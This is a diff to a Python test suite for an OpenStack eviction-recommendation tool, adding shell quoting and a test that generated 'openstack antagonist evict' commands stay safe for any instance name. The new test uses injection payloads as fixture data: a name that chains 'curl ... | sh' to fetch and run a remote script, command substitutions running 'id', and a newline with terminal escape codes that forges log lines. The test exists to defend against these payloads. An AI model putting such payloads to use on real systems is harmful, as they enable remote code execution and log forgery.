@@ -6,6 +6,7 @@ any database."""
 from __future__ import annotations
 
 import dataclasses
+import shlex
 from typing import Any
 
 import fixtures
@@ -151,10 +152,29 @@ class Antagonists(Mixin):
              'recommended', None, None, [], NOW + 60, NOW + 60), row)
         self.assertEqual(
             [f'recommended: openstack antagonist evict {HOG} --reason '
-             '"disturbs others" --how live-migrate'],
+             "'disturbs others' --how live-migrate"],
             self.rows(tables.incidents, 'action'))
         self.assertEqual([], self.rows(tables.suspects))
         self.assertEqual(before, self.rows(tables.antagonist_hours))
+
+    def test_the_command_is_one_whatever_is_in_the_database(self) -> None:
+        """An operator pastes it into a shell with the cloud's rights."""
+        for instance in ('x;curl -s 203.0.113.9/p|sh;#', "a'$(id)'`id`",
+                         'a\n2026-01-01 CRITICAL \x1b[31m'):
+            self.antagonist(instance)
+        self.turn(policy='none')
+        for action in self.rows(tables.incidents, 'action'):
+            self.assertTrue(action.isprintable())
+            words = shlex.split(action.removeprefix('recommended: '))
+            self.assertEqual(
+                ['openstack', 'antagonist', 'evict', '--reason',
+                 'disturbs others', '--how', 'live-migrate'],
+                words[:3] + words[4:])
+        reasons = self.rows(tables.audit, 'reason')
+        self.assertEqual(4, len(reasons))
+        self.assertTrue(''.join(reasons).isprintable())
+        self.assertTrue(self.log.output.replace('\n', '').isprintable())
+        self.assertNotIn('\n2026', self.log.output)
 
     def test_not_too_many_recommended_at_once(self) -> None:
         for number in range(eviction_policy.MOST + 20):
@@ -266,8 +286,9 @@ class Shortages(Mixin):
             self.assertEqual([], self.looks(70))
             self.assertEqual(
                 [(one, 'p1', 'eviction', None, None, 'recommended: openstack '
-                  f'antagonist evict {one} --reason "lasting shortage of CPU" '
-                  '--how live-migrate') for one in (NEW, HOG)],
+                  f'antagonist evict {one} --reason '
+                  "'lasting shortage of CPU' --how live-migrate")
+                 for one in (NEW, HOG)],
                 self.rows(tables.incidents, 'victim_instance', 'project',
                           'cause', 'value', 'threshold', 'action'))
         self.assertEqual(2 * ['eviction.recommended'],
